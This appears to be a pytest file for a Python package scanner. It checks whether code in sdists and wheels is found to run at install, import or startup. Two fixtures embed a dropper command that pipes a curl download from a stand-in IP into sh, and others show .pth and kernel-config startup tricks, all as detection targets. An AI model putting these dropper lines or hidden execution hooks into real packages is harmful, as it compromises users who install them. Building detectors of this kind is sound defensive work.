"""Where code runs (core/analysis/reach.py): each root and each step of the reach, with the benign twin that
must stay where it is. `runs` on a finding is what the reach computed for the code that produced it."""

from __future__ import annotations

import json
from pathlib import Path

from jupyter_safepip.core.model import Severity
from tests.support.archives import scan_sdist, scan_wheel

DATA = "demo-1.0.data/data"
SHELL = "import subprocess\n\n\ndef {name}():\n    subprocess.run(['ls'])\n"
PLAIN_SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0', packages=['demo'])\n"


def _runs(scan, rule_id: str = "shell-exec") -> str | None:
    return next((f.runs for f in scan.findings if f.rule_id == rule_id), None)


def test_setup_py_importing_the_package_runs_its_module_level_at_install_not_its_functions(tmp_path: Path):
    module_level = scan_sdist(tmp_path / "a", {
        "setup.py": "from demo import __version__\n" + PLAIN_SETUP,
        "demo/__init__.py": "import subprocess\n__version__ = '1.0'\nsubprocess.run(['ls'])\n"})
    assert _runs(module_level) == "install"
    uncalled = scan_sdist(tmp_path / "b", {
        "setup.py": "from demo import __version__\n" + PLAIN_SETUP,
        "demo/__init__.py": "__version__ = '1.0'\n" + SHELL.format(name="listing")})
    assert _runs(uncalled) == "library"


def test_a_function_setup_py_calls_from_the_package_runs_at_install(tmp_path: Path):
    called = scan_sdist(tmp_path / "a", {
        "setup.py": "from demo._build import prepare\nprepare()\n" + PLAIN_SETUP,
        "demo/__init__.py": "", "demo/_build.py": SHELL.format(name="prepare") + SHELL.format(name="other")[18:]})
    assert _runs(called) == "install"
    twin = scan_sdist(tmp_path / "b", {
        "setup.py": "from demo._build import prepare\nprepare()\n" + PLAIN_SETUP,
        "demo/__init__.py": "", "demo/_build.py": "def prepare():\n    return 1\n\n\n" + SHELL.format(name="other")})
    assert _runs(twin) == "library"


def test_cmdclass_and_attr_version_named_in_config_run_at_install(tmp_path: Path):
    cfg = scan_sdist(tmp_path / "a", {
        "setup.cfg": "[metadata]\nname = demo\nversion = attr: demo.about.VERSION\n\n[options]\n"
                     "cmdclass =\n    build_py = tools_build.BuildPy\n",
        "demo/__init__.py": "", "demo/about.py": "import subprocess\nVERSION = '1.0'\nsubprocess.run(['ls'])\n",
        "tools_build.py": "import subprocess\n\n\nclass BuildPy:\n    def run(self):\n        subprocess.run(['uname'])\n"})
    runs = {f.runs for f in cfg.findings if f.rule_id in ("shell-exec", "shell-exec-tool")}
    assert runs == {"install"}
    toml = scan_sdist(tmp_path / "b", {
        "pyproject.toml": '[project]\nname = "demo"\n\n[tool.setuptools.cmdclass]\ninstall = "hooks.cmd.Install"\n',
        "demo/__init__.py": "", "hooks/__init__.py": "",
        "hooks/cmd.py": "import subprocess\n\n\nclass Install:\n    def run(self):\n        subprocess.run(['ls'])\n"})
    assert _runs(toml) == "install"


def test_an_in_tree_backend_in_a_subpackage_runs_at_install_and_the_package_beside_it_does_not(tmp_path: Path):
    scan = scan_sdist(tmp_path, {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "support.backend"\nbackend-path = ["."]\n',
        "support/__init__.py": "", "support/backend.py": SHELL.format(name="build_wheel"),
        "demo/__init__.py": SHELL.format(name="listing").replace("'ls'", "'uname'")})
    assert _runs(scan, "shell-exec") == "install"
    assert _runs(scan, "shell-exec-tool") == "library"


def test_called_from_module_level_of_another_module_runs_on_import(tmp_path: Path):
    called = scan_wheel(tmp_path / "a", {"demo/__init__.py": "from ._boot import start\n\nstart()\n",
                                         "demo/_boot.py": SHELL.format(name="start")})
    assert _runs(called) == "import"
    imported_only = scan_wheel(tmp_path / "b", {"demo/__init__.py": "from ._boot import start\n",
                                                "demo/_boot.py": SHELL.format(name="start")})
    assert _runs(imported_only) == "library"


def test_class_definitions_run_metaclass_and_init_subclass(tmp_path: Path):
    meta = scan_wheel(tmp_path / "a", {"demo/__init__.py": "import subprocess\n\n\nclass Meta(type):\n"
                                       "    def __new__(mcs, *a):\n        subprocess.run(['ls'])\n"
                                       "        return super().__new__(mcs, *a)\n\n\nclass Model(metaclass=Meta):\n    pass\n"})
    assert _runs(meta) == "import"
    hook = scan_wheel(tmp_path / "b", {"demo/__init__.py": "import subprocess\n\n\nclass Base:\n"
                                       "    def __init_subclass__(cls):\n        subprocess.run(['ls'])\n"})
    assert _runs(hook) == "library"  # no subclass is defined on import


def test_jupyter_and_ipython_configs_run_their_extensions_and_code_lines_at_start(tmp_path: Path):
    server = scan_wheel(tmp_path / "a", {
        f"{DATA}/etc/jupyter/jupyter_server_config.d/demo.json": json.dumps({"ServerApp": {"jpserver_extensions": {"demo": True}}}),
        "demo/__init__.py": SHELL.format(name="_load_jupyter_server_extension") + SHELL.format(name="other")[18:].replace("'ls'", "'uname'")})
    assert _runs(server, "shell-exec") == "startup" and _runs(server, "shell-exec-tool") == "library"
    kernel = scan_wheel(tmp_path / "b", {
        f"{DATA}/share/jupyter/kernels/demo/kernel.json": json.dumps(
            {"argv": ["python", "-m", "demo.kernel", "-f", "{connection_file}",
                      "--IPKernelApp.exec_lines=import os; os.system('ls')"]}),
        "demo/__init__.py": "", "demo/kernel.py": SHELL.format(name="_main") + "\nif __name__ == '__main__':\n    _main()\n"})
    assert _runs(kernel) == "startup" and _runs(kernel, "shell-exec") == "startup"
    assert any(e.location.endswith("kernel.json") for f in kernel.findings for e in f.evidence if f.runs == "startup")
    # A plain Python kernelspec (ipykernel's own launcher, not in this wheel) reaches nothing of the package.
    plain = scan_wheel(tmp_path / "c", {
        f"{DATA}/share/jupyter/kernels/demo/kernel.json": json.dumps({"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"]}),
        "demo/__init__.py": SHELL.format(name="listing")})
    assert _runs(plain) == "library"


def test_a_pth_line_runs_what_it_imports_and_the_file_it_executes_at_start(tmp_path: Path):
    imports = scan_wheel(tmp_path / "a", {"demo.pth": "import _demo_boot\n", "_demo_boot.py": "import os\nos.system('ls')\n"})
    assert _runs(imports) == "startup"
    executes = scan_wheel(tmp_path / "b", {"demo.pth": "import os; exec(open(os.path.join(sitedir, 'boot.txt')).read())\n",
                                           "boot.txt": "import os\nos.system('ls')\n"})
    assert _runs(executes) == "startup"
    twin = scan_wheel(tmp_path / "c", {"demo.pth": "/opt/demo/lib\n", "boot.txt": "import os\nos.system('ls')\n"})
    assert _runs(twin) is None  # a path line runs nothing, and a text file nothing runs is not code


def test_a_file_under_tests_is_reached_only_by_a_name_that_includes_its_directory(tmp_path: Path):
    by_short_name = scan_sdist(tmp_path / "a", {"setup.py": "import helpers\n" + PLAIN_SETUP, "demo/__init__.py": "",
                                                "demo/tests/helpers.py": "import os\nos.system('ls')\n"})
    assert _runs(by_short_name) is None
    by_full_name = scan_sdist(tmp_path / "b", {"setup.py": "import demo.tests.helpers\n" + PLAIN_SETUP, "demo/__init__.py": "",
                                               "demo/tests/helpers.py": "import os\nos.system('ls')\n"})
    assert _runs(by_full_name) == "install"
    assert next(f for f in by_full_name.findings if f.rule_id == "shell-exec").severity is Severity.MEDIUM


def test_a_module_name_is_matched_from_where_python_looks_it_up(tmp_path: Path):
    # A namespace .pth imports the standard library's `types`; the package's own demo/types/ is another module.
    wheel = scan_wheel(tmp_path / "a", {"demo-nspkg.pth": "import sys, types, os\n", "demo/__init__.py": "",
                                        "demo/types/__init__.py": "import os\nos.system('ls')\n"})
    assert _runs(wheel) == "import"  # when demo.types is imported, not at every start
    # An sdist's src/ layout: setup.py imports demo, which lives under src/ (not a package itself).
    src = scan_sdist(tmp_path / "b", {"setup.py": "import demo\n" + PLAIN_SETUP,
                                      "src/demo/__init__.py": "import os\nos.system('ls')\n"})
    assert _runs(src) == "install"


def test_a_pth_file_runs_wherever_the_archive_keeps_it(tmp_path: Path):
    line = "import os; os.system('curl -s -m 1 http://192.0.2.1/p | sh')\n"
    sdist = scan_sdist(tmp_path / "a", {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "data/demo.pth": line})
    data = scan_wheel(tmp_path / "b", {"demo/__init__.py": "",
                                       "demo-1.0.data/data/lib/python3.11/site-packages/demo.pth": line})
    assert _runs(sdist, "shell-dropper-command") == "startup" and _runs(data, "shell-dropper-command") == "startup"


def test_what_runs_does_not_depend_on_the_order_of_the_archive(tmp_path: Path):
    files = {"demo/__init__.py": "from . import b\nb.f()\n",
             "demo/b.py": "from . import c\n\n\ndef f():\n    c.g()\n",
             "demo/c.py": "import os\n\n\ndef g():\n    os.system('ls')\n"}
    forward = scan_wheel(tmp_path / "a", files)
    backward = scan_wheel(tmp_path / "b", dict(reversed(list(files.items()))))
    assert _runs(forward) == _runs(backward) == "import"


def test_an_alias_or_a_command_kept_in_another_module_is_followed(tmp_path: Path):
    scan = scan_wheel(tmp_path, {"demo/_h.py": "import subprocess as _m\nC = 'curl -s -m 1 http://192.0.2.1/p | sh'\n",
                                 "demo/__init__.py": "from ._h import _m, C\n_m.Popen(C, shell=True)\n"})
    assert _runs(scan, "shell-dropper-command") == "import"


def test_benign_twins_of_the_new_roots_and_flows(tmp_path: Path):
    # hatch's version source reads the package's __init__; it does not run it
    hatch = scan_sdist(tmp_path / "a", {
        "pyproject.toml": '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n'
                          '[tool.hatch.version]\npath = "demo/__init__.py"\n',
        "demo/__init__.py": "__version__ = '1.0'\n" + SHELL.format(name="update")})
    assert _runs(hatch) == "library"
    # a download named after the platform sends no one's identity
    uname = scan_sdist(tmp_path / "b", {"setup.py": "import platform\nimport urllib.request\n"
                                        "urllib.request.urlretrieve(f'https://example.invalid/tool-{platform.uname().machine}.tgz',"
                                        " 'tool.tgz')\n" + PLAIN_SETUP, "demo/__init__.py": ""})
    assert not any(f.rule_id == "secrets-host-beacon" for f in uname.findings)
